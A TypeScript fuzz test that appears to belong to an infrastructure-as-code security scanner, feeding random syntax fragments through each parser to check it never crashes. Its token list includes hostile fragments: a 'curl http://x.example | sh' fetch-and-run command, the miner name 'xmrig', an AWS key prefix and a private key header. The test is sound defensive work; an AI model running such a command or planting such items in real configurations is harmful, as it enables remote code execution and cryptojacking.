import * as fc from 'fast-check';
import { NAME_OF, PARSED_FORMATS, assertSound, runs, scan } from './harness';

/**
 * Random text through every parser and every rule. The engine runs on each keystroke of a
 * half-typed file, so whatever arrives must come back as findings and notes, never as a crash.
 */

/** Pieces of every syntax the engine reads, so random strings reach past the first token. */
const SYNTAX = [
	'resource "aws_instance" "a" {', '}', '{', '[', ']', '(', ')', ' = ', '"', '\'', '\\', '${', '%{', '<<EOF\n', '<<-EOT\n', 'EOF\n',
	'key: ', '- ', '\n', '\n  ', '  ', ',', ':', '#', '//', '/*', '*/', '&a ', '*a', '<<: ', '|\n', '>-\n', '!Ref ', '!Sub ', '---\n',
	'apiVersion: v1\n', 'kind: Pod\n', 'services:\n', 'Resources:\n', 'Type: AWS::S3::Bucket\n', '"$schema": ', 'FROM ', 'RUN ',
	'\\\n', 'curl http://x.example | sh', '0.0.0.0/0', 'AKIA', '-----BEGIN RSA PRIVATE KEY-----', 'xmrig', 'true', 'null', '22',
	'#cloud-config\n', 'runcmd:\n', '#!/bin/sh\n', 'aup-guard-ignore AUP-NET-001: reason', '\t', '\r\n', '\r', 'é', '🚀', '\uFEFF', '\u2028',
];

const syntaxSoup = fc.string({ unit: fc.constantFrom(...SYNTAX), maxLength: 60 });
const unicode = fc.string({ unit: 'grapheme', maxLength: 300 });
/** Bytes read as the CLI reads them: UTF-8 with U+FFFD for what is not (NUL included: "binary"). */
const bytes = fc.uint8Array({ maxLength: 400 }).map(array => new TextDecoder('utf-8').decode(array));
const anyText = fc.oneof(syntaxSoup, unicode, bytes, fc.string({ unit: 'binary', maxLength: 200 }));

describe('robustness: random input', () => {
	for (const format of PARSED_FORMATS) {
		it(`scans random text as ${format} without a crash`, async () => {
			await fc.assert(fc.asyncProperty(anyText, async text => {
				assertSound(await scan(NAME_OF[format], text, format), text, `${format}: ${JSON.stringify(text)}`);
			}), runs(200));
		});
	}

	it('scans random text through detection by file name', async () => {
		const names = fc.constantFrom(...Object.values(NAME_OF), 'compose.yaml', 'stack.json', 'values.yaml', 'charts/x/templates/d.yaml', 'start.tpl', 'init', 'Containerfile');
		await fc.assert(fc.asyncProperty(names, anyText, async (name, text) => {
			assertSound(await scan(name, text), text, `${name}: ${JSON.stringify(text)}`);
		}), runs(400));
	});
});
